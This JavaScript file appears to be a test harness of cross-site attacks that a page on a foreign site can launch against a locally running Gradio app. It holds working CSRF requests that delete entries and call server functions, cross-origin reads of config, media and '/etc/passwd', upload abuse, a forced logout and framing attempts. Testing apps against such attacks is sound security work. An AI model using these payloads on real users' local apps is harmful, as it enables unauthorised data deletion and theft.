// What a page of another web site can try on an app of this machine. `target` says where the app is and what an attacker
// may have learned of it. Every attack asks for an address with its own name in it, and returns what it could read.

const text = async (answer) => (answer.type === 'opaque' ? '' : await answer.text());
const ask = async (url, settings = {}) => text(await fetch(url, { credentials: 'include', ...settings }));
const post = (url, body, settings = {}) => ask(url, { method: 'POST', mode: 'no-cors', body, ...settings });
const asJson = { mode: 'cors', headers: { 'content-type': 'application/json' } };
const asText = { headers: { 'content-type': 'text/plain' } };

const formData = (values) => {
  const data = new FormData();
  for (const [name, value] of Object.entries(values)) data.append(name, value);
  return data;
};

const load = (tag, attributes, event = 'load') =>
  new Promise((resolve) => {
    const element = document.createElement(tag);
    element.addEventListener(event, () => resolve(tag === 'iframe' ? framed(element) : 'loaded'));
    element.addEventListener('error', () => resolve(''));
    Object.assign(element, attributes);
    document.body.append(element);
    element.load?.();
  });

const framed = (frame) => {
  try {
    return frame.contentDocument?.body?.textContent ?? '';
  } catch {
    return '';
  }
};

const submit = (action, values, enctype) =>
  new Promise((resolve) => {
    const frame = document.createElement('iframe');
    const form = document.createElement('form');
    frame.name = `sink-${document.forms.length}`;
    document.body.append(frame);
    Object.assign(form, { action, method: 'POST', enctype, target: frame.name });
    for (const [name, value] of Object.entries(values)) {
      const input = document.createElement('input');
      Object.assign(input, { type: 'hidden', name, value });
      form.append(input);
    }
    document.body.append(form);
    form.submit();
    setTimeout(() => resolve(''), 300);
  });

const posting = (url, body, tell) =>
  `fetch(${JSON.stringify(url)}, {method: 'POST', mode: 'no-cors', body: ${JSON.stringify(body)}}).finally(() => ${tell})`;

const inSandbox = (url, body) =>
  new Promise((resolve) => {
    const frame = document.createElement('iframe');
    addEventListener('message', () => resolve(''));
    frame.sandbox = 'allow-scripts allow-forms';
    frame.srcdoc = `<!doctype html><script>${posting(url, body, "parent.postMessage('', '*')")}</script>`;
    document.body.append(frame);
  });

const inWorker = (url, body) =>
  new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob([posting(url, body, "postMessage('')")])));
    worker.onmessage = () => resolve('');
  });

const opened = async (url) => {
  const other = window.open(url);
  let text = '';
  try {
    while (other.location.href === 'about:blank' || other.document.readyState !== 'complete')
      await new Promise((resolve) => setTimeout(resolve, 50));
    text = other.document.body.textContent;
  } catch {
    // another site's by now, or no window
  }
  other?.close();
  return text;
};

window.ATTACKS = {
  // the panel's functions
  'server function as text': (t, url) => post(url('/gradio_api/component_server'), t.call('remove_take'), asText),
  'server function as form data': (t, url) =>
    post(url('/gradio_api/component_server'), formData({ ...JSON.parse(t.call('empty_trash')), data: '{}' })),
  'server function as JSON': (t, url) => ask(url('/gradio_api/component_server'), { method: 'POST', body: t.call('fetch_page'), ...asJson }),
  'server function as a beacon': (t, url) => String(navigator.sendBeacon(url('/gradio_api/component_server'), t.call('change_take'))) && '',
  'server function as a form of text': (t, url) => {
    const [before, after] = t.call('remove_take').split('"session_hash":');
    return submit(url('/gradio_api/component_server'), { [`${before}"session_hash":"x`]: `",${after.slice(after.indexOf(',') + 1)}` }, 'text/plain');
  },
  'server function without credentials': (t, url) =>
    post(url('/gradio_api/component_server'), t.call('remove_take'), { ...asText, credentials: 'omit', referrerPolicy: 'no-referrer' }),
  'server function from a sandbox': (t, url) =>
    inSandbox(url('/gradio_api/component_server'), t.call('remove_take')),
  'server function from a worker': (t, url) => inWorker(url('/gradio_api/component_server'), t.call('remove_take')),
  'server function over a redirect': (t, url) => post(`${t.redirect}${encodeURIComponent(url('/gradio_api/component_server'))}`, t.call('remove_take'), asText),
  'form over a redirect': (t, url) => submit(`${t.redirect}${encodeURIComponent(url('/gradio_api/upload'))}`, { files: 'x' }, 'multipart/form-data'),
  // the named endpoints and the page's events
  'call as JSON': (t, url) => ask(url('/gradio_api/call/delete_entry'), { method: 'POST', body: t.data([t.id, true]), ...asJson }),
  'call as text': (t, url) => post(url('/gradio_api/call/delete_entry'), t.data([t.id, true]), asText),
  'call, second version': (t, url) => post(url('/gradio_api/call/v2/delete_entry'), JSON.stringify({ entry_id: t.id, permanent: true }), asText),
  'call as a form': (t, url) => submit(url('/gradio_api/call/delete_entry'), { data: t.id }, 'application/x-www-form-urlencoded'),
  'run as text': (t, url) => post(url('/gradio_api/run/delete_entry'), t.data([t.id, true]), asText),
  'api as JSON': (t, url) => ask(url('/gradio_api/api/update_entry'), { method: 'POST', body: t.data([t.id, true, 1, [], 'mine', 'mine']), ...asJson }),
  'queue as text': (t, url) => post(url('/gradio_api/queue/join'), t.event('panel_again', [], { id: t.id }), asText),
  'queue as JSON': (t, url) => ask(url('/gradio_api/queue/join'), { method: 'POST', body: t.event('panel_again', [], { id: t.id }), ...asJson }),
  'queue from another session': (t, url) => post(url('/gradio_api/queue/join'), t.event('delete_entry', [t.id, true]), asText),
  'cancel as text': (t, url) => post(url('/gradio_api/cancel'), JSON.stringify({ session_hash: 'x', fn_index: 1, event_id: 'x' }), asText),
  // files
  'upload': (t, url) => t.uploads ? post(url('/gradio_api/upload'), formData({ files: new Blob(['x'.repeat(5000)]) })) : '',
  'upload as a form': (t, url) => t.uploads ? submit(url('/gradio_api/upload'), { files: 'x' }, 'multipart/form-data') : '',
  'recording': (t, url) => post(url('/gradio_api/process_recording'), formData({ file: new Blob(['x']) })),
  // reading along
  'page by fetch': (t, url) => ask(url('/')),
  'config by fetch': (t, url) => ask(url('/config')),
  'config as a script': (t, url) => load('script', { src: url('/config') }),
  'media by fetch': (t, url) => ask(url(t.media)),
  'media as audio': (t, url) => load('audio', { src: url(t.media), preload: 'auto' }, 'canplaythrough'),
  'media as video': (t, url) => load('video', { src: url(t.media), preload: 'auto' }, 'canplaythrough'),
  'media as an image': (t, url) => load('img', { src: url(t.media) }),
  'media in an object': (t, url) => load('object', { data: url(t.media) }).then(() => ''),
  'media in a style sheet': (t, url) => load('link', { rel: 'stylesheet', href: url(t.media) }),
  'file of the machine': (t, url) => load('img', { src: url('/gradio_api/file=/etc/passwd') }),
  'events of the queue': (t, url) => stream(url('/gradio_api/queue/data') + '&session_hash=x'),
  'heartbeat': (t, url) => stream(url('/gradio_api/heartbeat/x')),
  'web socket': (t, url) => socket(url('/gradio_api/queue/join').replace('http', 'ws')),
  'log out': (t, url) => load('img', { src: url('/logout') }),
  // the page itself
  'frame': (t, url) => load('iframe', { src: url('/') }),
  'frame in a sandbox': (t, url) => load('iframe', { sandbox: 'allow-scripts allow-same-origin', src: url('/') }),
  'embed': (t, url) => load('embed', { src: url('/') }).then(() => ''),
  'form to the page': (t, url) => submit(url('/'), { a: 'b' }, 'application/x-www-form-urlencoded'),
  'window': (t, url) => opened(url('/')),
  'window of an endpoint': (t, url) => opened(url('/gradio_api/info')),
};

const stream = (url) =>
  new Promise((resolve) => {
    const source = new EventSource(url, { withCredentials: true });
    source.onmessage = (event) => resolve(event.data);
    source.onerror = () => {
      source.close();
      resolve('');
    };
  });

const socket = (url) =>
  new Promise((resolve) => {
    const opening = new WebSocket(url);
    opening.onopen = () => resolve('opened');
    opening.onerror = () => resolve('');
  });

/** Try one attack; give what it read. */
window.attack = async (known, name) => {
  const target = {
    ...known,
    call: (fn_name) =>
      JSON.stringify({ session_hash: 'x', component_id: known.panel, fn_name, data: known.requests[fn_name] }),
    data: (values) => JSON.stringify({ data: values, session_hash: 'x' }),
    event: (api_name, values, event_data = null) =>
      JSON.stringify({ data: values, event_data, fn_index: known.events[api_name], session_hash: 'x' }),
  };
  const url = (path) => `${known.base}${path}?attack=${encodeURIComponent(name)}`;
  const late = new Promise((resolve) => setTimeout(() => resolve(''), 2500));
  try {
    return String(await Promise.race([window.ATTACKS[name](target, url), late]));
  } catch {
    return '';
  }
};

window.attackAll = async (known) => {
  const names = Object.keys(window.ATTACKS);
  const read = await Promise.all(names.map((name) => window.attack(known, name)));
  return Object.fromEntries(names.map((name, index) => [name, read[index].slice(0, 2000)]));
};
